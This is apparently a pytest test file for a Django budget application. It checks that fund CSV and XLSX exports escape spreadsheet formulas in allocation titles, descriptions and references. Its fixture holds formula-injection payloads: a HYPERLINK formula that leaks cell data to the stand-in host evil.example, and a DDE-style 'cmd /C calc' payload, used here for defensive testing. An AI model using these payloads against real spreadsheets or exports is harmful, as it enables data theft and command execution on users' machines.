"""F1: allocation titles and descriptions cannot run as formulas in the fund's CSV and XLSX."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from ivp.budget import services

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&B2,"klik")'


@pytest.fixture
def hostile_allocation(populations, users):
    coordinator = users["coordinator"]
    allocation = services.allocation_create(actor=coordinator, year=2024, kind="project", title=PAYLOAD,
                                            amount_cents=1_234_56, description="@SUM(1+1)*cmd|' /C calc'!A0")
    services.expenditure_create(actor=coordinator, allocation=allocation, date=dt.date(2024, 5, 1),
                                description="\uff1d1+1", reference="-2+3", amount_cents=1_000_01)
    return allocation


def test_fund_csv_neutralises_formulas(client, users, hostile_allocation):
    client.force_login(users["police"])
    response = client.get(reverse("web:budget_export", kwargs={"year": 2024, "fmt": "csv"}))
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    allocation = next(r for r in rows if r["onderdeel"] == "toewijzing")
    assert allocation["titel"] == "'" + PAYLOAD and allocation["toelichting"].startswith("'@SUM")
    spent = next(r for r in rows if r["onderdeel"] == "uitgave")
    assert spent["toelichting"] == "'\uff1d1+1" and spent["referentie"] == "'-2+3"
    assert spent["bedrag_euro"] == "1000,01" and spent["bedrag_centen"] == "100001"


def test_fund_xlsx_has_no_formula(client, users, hostile_allocation):
    client.force_login(users["coordinator"])
    response = client.get(reverse("web:budget_export", kwargs={"year": 2024, "fmt": "xlsx"}))
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [c.value for c in cells]
    assert "'" + PAYLOAD in values and "'-2+3" in values
    assert 1_000_01 in values
